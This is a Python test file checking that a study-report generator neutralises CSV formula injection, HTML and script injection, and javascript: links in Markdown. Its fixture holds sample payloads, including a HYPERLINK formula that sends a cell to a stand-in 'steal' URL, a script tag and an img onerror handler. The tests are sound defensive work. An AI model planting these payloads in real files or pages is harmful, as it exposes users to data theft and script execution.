"""Reports are safe to open: spreadsheet formulas neutralised in CSV, no HTML or script links from
Markdown, escaped HTML, and text that would be mathtext shown as written in the heatmap."""

from __future__ import annotations

import csv
from html.parser import HTMLParser
from pathlib import Path

import markdown
import polars as pl
import pytest

from study_copies import copy_as_study, edit_rows, example_packages
from upsides_data.report import write_report
from upsides_data.report.render import markdown_text, write_csv

FORMULA = '=HYPERLINK("http://example.invalid/steal?d="&A1,"click me")'
SCRIPT = "<script>alert('theme')</script>"
JS_LINK = "[open](javascript:alert(1))"
MATH = r"Costs $\undefinedcommand{x}$ and $5"
DANGEROUS_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The report of a codebook and site whose texts carry formulas, scripts and script links."""
    root = tmp_path_factory.mktemp("hostile")
    codebook, site = copy_as_study(example_packages("codebook", "ad"), root, "mhw-2019")
    labels = iter([FORMULA, SCRIPT, JS_LINK, MATH, "@SUM(1+1)", "-2+3", "+A1*2", "\tx"])

    def theme(row: dict[str, str]) -> None:
        row["label"] = next(labels, row["label"])

    def finding(row: dict[str, str]) -> None:
        row["summary"] = "<img src=x onerror=alert(1)> " + JS_LINK

    def quote(row: dict[str, str]) -> None:
        row["text"] = FORMULA + " " + SCRIPT

    def study(row: dict[str, str]) -> None:
        row["title"] = SCRIPT + FORMULA

    edit_rows(codebook, "theme", theme)
    edit_rows(codebook, "finding", finding)
    edit_rows(codebook, "study", study)
    edit_rows(site, "quote", quote)
    return write_report([codebook, site], root / "report")


def test_csv_cells_never_start_a_formula(hostile: Path) -> None:
    files = sorted(hostile.glob("*.csv"))
    assert len(files) == 7
    seen = set()
    for path in files:
        with open(path, encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.lstrip(" \n").startswith(DANGEROUS_START), (path.name, cell)
                    assert not cell.startswith(("\t", "\r")), (path.name, cell)
                    seen.add(cell)
    assert "'" + FORMULA in seen
    assert {"'@SUM(1+1)", "'-2+3", "'+A1*2", "'\tx"} <= seen
    assert SCRIPT in seen  # harmless to a spreadsheet, kept as written


def test_numbers_stay_numbers_and_text_is_quoted(tmp_path: Path) -> None:
    frame = pl.DataFrame({"label": ["-3", "ok", None], "count": [-3, 4, None],
                          "mean": [-2.5, 1.0, None]})
    write_csv(frame, tmp_path / "t.csv")
    assert (tmp_path / "t.csv").read_text(encoding="utf-8").splitlines() == [
        '"label","count","mean"', "\"'-3\",-3,-2.5", '"ok",4,1.0', ",,"]


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))


def _elements(page: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = _Elements()
    parser.feed(page)
    return parser.tags


def _assert_inert(page: str) -> None:
    tags = _elements(page)
    assert tags, "nothing parsed"
    assert "script" not in {tag for tag, _ in tags}
    for tag, attrs in tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        for name in ("href", "src"):
            value = (attrs.get(name) or "").strip().lower()
            assert not value.startswith(("javascript:", "vbscript:")), (tag, attrs)


def test_markdown_carries_no_html_and_no_script_link(hostile: Path) -> None:
    text = (hostile / "report.md").read_text(encoding="utf-8")
    assert "<script" not in text and "<img" not in text
    rendered = markdown.markdown(text, extensions=["tables"])
    _assert_inert(rendered)
    assert [a for tag, a in _elements(rendered) if tag == "img"] == [
        {"alt": "Themes by site", "src": "3-theme-site-heatmap.svg"}]
    assert "alert(&#x27;theme&#x27;)" in rendered or "alert('theme')" in rendered


def test_markdown_escaping_unit() -> None:
    assert markdown_text("<b>x</b> & [a](javascript:b) | c") == (
        "&lt;b&gt;x&lt;/b&gt; &amp; \\[a\\](javascript&#58;b) \\| c")
    assert markdown_text("two\nlines") == "two lines"
    rendered = markdown.markdown(markdown_text("[x](JavaScript:alert(1))"))
    assert "href" not in rendered


def test_html_page_escapes_every_cell(hostile: Path) -> None:
    page = (hostile / "report.html").read_text(encoding="utf-8")
    _assert_inert(page)
    assert "&lt;script&gt;alert(&#x27;theme&#x27;)&lt;/script&gt;" in page
    assert "&lt;img src=x onerror=alert(1)&gt;" in page


def test_quote_text_is_not_reprinted(hostile: Path) -> None:
    """Quote texts are counted, never printed: the payload of a quote appears nowhere raw."""
    for path in hostile.iterdir():
        if path.suffix in (".csv", ".md", ".html", ".svg"):
            assert FORMULA + " " + SCRIPT not in path.read_text(encoding="utf-8"), path.name


def test_heatmap_shows_dollar_signs_as_written(hostile: Path) -> None:
    svg = (hostile / "3-theme-site-heatmap.svg").read_text(encoding="utf-8")
    assert "Costs $\\undefinedcommand{x}$ and $5" in svg
